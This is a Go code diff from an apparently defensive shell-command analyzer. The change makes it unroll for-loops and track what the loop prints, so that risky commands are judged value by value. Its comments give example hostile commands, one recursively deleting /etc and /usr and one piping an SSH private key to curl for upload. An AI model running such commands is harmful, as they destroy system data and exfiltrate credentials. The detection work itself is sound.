@@ -1136,10 +1136,13 @@ const (
 // words are a few literal values: the walk sees the body once with v unknown (it takes
 // several values), so `for d in /etc /usr; do rm -rf $d; done` would only ask. Each
 // iteration is analysed as the code `v=VALUE; BODY`, one level deeper.
-func (a *analyzer) unroll(fc *syntax.ForClause) {
+//
+// It reports whether every value was analysed, and what the copies print: the loop's
+// output, which the copies, analysed apart, do not pipe anywhere themselves.
+func (a *analyzer) unroll(fc *syntax.ForClause) (taint, bool) {
 	wi, ok := fc.Loop.(*syntax.WordIter)
 	if !ok || wi.Name == nil || !wi.InPos.IsValid() || len(wi.Items) == 0 || len(wi.Items) > maxUnrolledItems || len(fc.Do) == 0 {
-		return
+		return 0, false
 	}
 	var values []string
 	for _, w := range wi.Items {
@@ -1152,31 +1155,63 @@ func (a *analyzer) unroll(fc *syntax.ForClause) {
 			// assigned the pattern unquoted, it expands to them where it is used.
 			values = append(values, unquotedPattern(w))
 		default:
-			return
+			return 0, false
 		}
 	}
 	start, end := fc.Do[0].Pos(), fc.Do[len(fc.Do)-1].End()
 	if !start.IsValid() || !end.IsValid() || end.Offset() > uint(len(a.line)) || start.Offset() >= end.Offset() {
-		return
+		return 0, false
 	}
 	body := a.line[start.Offset():end.Offset()]
 	if len(body) > maxUnrolledBody || a.depth+1 >= maxDepth {
-		return
+		return 0, false
 	}
 	cwd := a.cwd()
 	startDir := value{}
 	if cwd.known {
 		startDir = value{cwd.path, true}
 	}
+	var out taint
 	for _, v := range values {
 		code := wi.Name.Value + "=" + v + "\n" + body
 		if !a.spendNested(len(code)) {
-			return
+			return 0, false
 		}
 		sub := analyze(code, startDir, a.sh, a.depth+1, nil)
+		out |= sub.out
 		for _, sc := range sub.Commands {
 			a.cmds = append(a.cmds, sc)
 			a.meta = append(a.meta, cmdMeta{prog: canonicalProgram(sc.Name), nested: true, at: a.at})
+		}
+	}
+	return out, true
+}
+
+// unrolledOpacity drops the opacity findings of the commands of a loop body's own walk,
+// from generic on, when no copy analysed with a value (from unrolled to generic) has one.
+// The copies see each value the variable takes, the walk sees the variable unknown and
+// the line around the loop known; the copies, analysed apart, know less of that line, so
+// what the walk alone cannot see through is the variable, whose every value was judged
+// (for d in api web; do (cd $d && npm test); done). Its other findings stay.
+func (a *analyzer) unrolledOpacity(unrolled, generic int) {
+	for _, c := range a.cmds[unrolled:generic] {
+		if hasFinding(c.Findings, findOpaque) {
+			return
+		}
+	}
+	for k := generic; k < len(a.cmds); k++ {
+		a.cmds[k].Findings = dropFinding(a.cmds[k].Findings, findOpaque)
+	}
+}
+
+// unrolledOutput adds what a loop's copies print, out, to the output of the first command
+// of its body's own walk, from generic on, which stands for the loop where its output
+// goes (for f in notes .ssh/id_rsa; do cat ~/$f; done | curl -d @- URL).
+func (a *analyzer) unrolledOutput(generic int, out taint) {
+	for k := generic; k < len(a.meta); k++ {
+		if !a.meta[k].nested {
+			a.meta[k].out.t |= out
+			return
 		}
 	}
 }
